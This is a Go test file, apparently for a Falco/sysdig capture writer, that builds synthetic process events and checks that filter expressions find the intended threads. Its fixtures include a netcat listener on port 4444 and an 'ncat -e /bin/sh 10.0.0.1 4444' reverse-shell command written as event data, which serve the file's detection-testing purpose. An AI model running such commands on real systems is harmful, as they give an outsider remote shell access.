package falcotest

import (
	"path/filepath"
	"slices"
	"testing"
	"time"
)

const testContainer = "3ad7b26ded6d9f8c1b2e4a5f60718293a4b5c6d7e8f90123456789abcdef0123"

// writerEvents is a small capture exercising every field the writer sets.
func writerEvents() []Event {
	t0 := time.Date(2026, 11, 2, 10, 0, 0, 0, time.UTC)
	sshd := &Process{TID: 90, Comm: "sshd", Exe: "/usr/sbin/sshd", ExePath: "/usr/sbin/sshd", Args: []string{"-D"}, Cwd: "/", User: "root"}
	bash := &Process{TID: 91, Comm: "bash", Exe: "-bash", ExePath: "/bin/bash", Cwd: "/home/alice", UID: 1000, GID: 1000, User: "alice", Parent: sshd}
	shim := &Process{TID: 92, Exe: "containerd-shim", ExePath: "/usr/bin/containerd-shim-runc-v2", Cwd: "/", User: "root"}
	return []Event{
		{Kind: Exec, Time: t0, TTY: PTS0, Proc: Process{TID: 300, Exe: "nc", ExePath: "/usr/bin/nc",
			Args: []string{"-lvp", "4444", "a b"}, Cwd: "/tmp", UID: 1000, GID: 1000, User: "alice", Parent: bash}},
		{Kind: Exec, Time: t0.Add(time.Second), ContainerID: testContainer, ContainerName: "web-1", Image: "docker.io/library/nginx:1.25",
			Proc: Process{TID: 400, Exe: "ncat", ExePath: "/usr/bin/ncat", Args: []string{"-e", "/bin/sh", "10.0.0.1", "4444"}, Cwd: "/", SID: 400, Parent: shim}},
		{Kind: Exec, Time: t0.Add(2 * time.Second), TTY: PTS0 + 1, Proc: Process{TID: 500, Exe: "/opt/bin/kubectl-1.29.3-linux-amd64",
			ExePath: "/opt/bin/kubectl-1.29.3-linux-amd64", Args: []string{"-c", `print('it"s')`, "back\\slash"}, Cwd: "/", User: "root", Parent: bash}},
		{Kind: Exit, Time: t0.Add(4 * time.Second), Proc: Process{TID: 700, Exe: "bash", ExePath: "/bin/bash", Cwd: "/", User: "root", Parent: sshd}},
		{Kind: Fork, Time: t0.Add(3 * time.Second), ContainerID: testContainer, TTY: PTS0 + 2, Proc: Process{TID: 600, Exe: "sh", ExePath: "/bin/sh", Args: []string{"-i"}, Cwd: "/srv", Parent: shim}},
	}
}

func writeTestCapture(t *testing.T, events []Event) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "test.scap")
	if err := WriteCaptureFile(path, events); err != nil {
		t.Fatal(err)
	}
	return path
}

// TestWriterFieldsReachTheEngine proves the writer: each filter names one
// field the writer sets, and sysdig must find exactly the intended threads.
func TestWriterFieldsReachTheEngine(t *testing.T) {
	Need(t)
	path := writeTestCapture(t, writerEvents())
	cases := []struct {
		name, cond string
		want       []int64
	}{
		{"comm", `proc.name = nc`, []int64{300}},
		{"comm is cut to 15 bytes like the kernel's", `proc.name = "kubectl-1.29.3-"`, []int64{500}},
		{"argv0", `proc.exe = "-bash" or proc.exe = ncat`, []int64{400}},
		{"exepath", `proc.exepath = /usr/bin/ncat`, []int64{400}},
		{"args joined with spaces", `proc.args = "-lvp 4444 a b"`, []int64{300}},
		{"args keep quotes and backslashes", `proc.args contains "it\"s"`, []int64{500}},
		{"exeline", `proc.exeline startswith "ncat -e "`, []int64{400}},
		{"exeline ends in a blank when there are no arguments (both engines)", `proc.exeline = "bash "`, []int64{700}},
		{"cmdline does not", `proc.cmdline = bash`, []int64{700}},
		{"cwd gets a trailing slash", `proc.cwd = /tmp/`, []int64{300}},
		{"tty", `proc.tty != 0`, []int64{300, 500, 600}},
		{"pts number", `proc.tty = 34817`, []int64{500}},
		{"container id is the 12-character prefix", `container.id = 3ad7b26ded6d`, []int64{400, 600}},
		{"host", `container.id = host`, []int64{300, 500, 700}},
		{"container name", `container.name = web-1`, []int64{400, 600}},
		{"image repository", `container.image.repository = docker.io/library/nginx`, []int64{400, 600}},
		{"image tag", `container.image.tag = "1.25"`, []int64{400, 600}},
		{"parent name", `proc.pname = bash`, []int64{300, 500}},
		{"grandparent", `proc.aname[2] = sshd`, []int64{300, 500}},
		{"any ancestor", `proc.aname = containerd-shim`, []int64{400, 600}},
		{"user name from the user table", `user.name = alice`, []int64{300}},
		{"group", `group.name = alice and group.gid = 1000`, []int64{300}},
		{"session: a child of init leads its own, others inherit", `proc.sname = sshd`, []int64{300, 500, 700}},
		{"session leader set explicitly", `proc.sid = 400`, []int64{400}},
		{"uid", `user.uid = 0`, []int64{400, 500, 600, 700}},
		{"pid", `proc.pid = 400 and proc.ppid = 92`, []int64{400}},
		{"exec events", `evt.type = execve`, []int64{300, 400, 500}},
		{"fork events are the child's clone exit", `evt.type = clone and evt.rawres = 0`, []int64{600}},
		{"fork keeps its own image", `proc.name = sh and proc.args = "-i" and proc.cwd = /srv/`, []int64{600}},
		{"exit is procexit", `evt.type = procexit`, []int64{700}},
		{"exit keeps the image", `proc.name = bash and proc.pname = sshd`, []int64{700}},
		{"fork has its terminal", `evt.type = clone and proc.tty = 34818`, []int64{600}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got, err := Match(path, c.cond)
			if err != nil {
				t.Fatal(err)
			}
			if !slices.Equal(got, c.want) {
				t.Errorf("%s: got tids %v, want %v", c.cond, got, c.want)
			}
		})
	}
}
